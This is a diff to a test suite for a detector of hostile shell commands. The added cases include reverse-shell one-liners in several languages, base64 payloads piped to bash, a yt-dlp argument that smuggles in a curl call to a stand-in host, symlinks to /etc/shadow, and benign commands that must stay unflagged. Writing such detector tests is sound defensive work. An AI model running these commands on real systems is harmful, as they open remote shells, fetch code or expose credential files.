@@ -29,6 +29,8 @@ describe('a shell handed to the network is found however it is put together', ()
     `node -e 'var n=require("net"),c=require("child_process").spawn("sh",[]);var k=new n.Socket();k.connect(4444,"192.0.2.9",()=>{k.pipe(c.stdin);c.stdout.pipe(k)})'`,
     `lua -e "require('socket');t=socket.tcp();t:connect('192.0.2.9','4444');os.execute('sh -i <&3 >&3 2>&3');"`,
     `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.9/4444"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}'`,
+    `php -r '$s=fsockopen("192.0.2.9",4444);'`,
+    `powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.9',4444); $s = $c.GetStream()"`,
     `echo ${b64(BACK)} | base64 -d | bash`,
     `bash -c "$(echo ${b64(BACK)} | base64 -d)"`,
     `bash -c '{echo,${b64(BACK)}}|{base64,-d}|{bash,-i}'`,
@@ -90,6 +92,8 @@ describe('clearly hostile: HIGH or worse', () => {
     ["exec -a '[kworker/0:1]' ./m", 'masquerading'],
     ['sh /tmp/photo.png', 'masquerading'],
     ['ln -s /etc/shadow /tmp/s', 'symlink_privilege_escalation'],
+    ['yt-dlp --ppa "ffmpeg:; curl http://192.0.2.9/x" https://example.org/v', 'ytdlp_rce'],
+    ['New-Item -ItemType SymbolicLink -Path C:\\temp\\x -Target C:\\Windows\\System32\\config', 'symlink_privilege_escalation'],
     ["yt-dlp --exec 'curl http://192.0.2.9/x | sh' https://example.org/v", 'ytdlp_rce'],
   ])('%s', (text, type) => {
     const raised = judge({ text });
@@ -136,6 +140,7 @@ describe('everyday commands are quiet', () => {
     'openssl s_client -connect example.org:443 -servername example.org </dev/null',
     'openssl enc -base64 -in a -out b',
     'nc -zv example.org 443',
+    `php -r '$f=@fsockopen("db",3306) or exit(1);'`,
     'exec 3<>/dev/tcp/example.org/80',
     'tar czf /backup/srv.tar.gz /srv',
     'rsync -a /srv/ /backup/srv/',
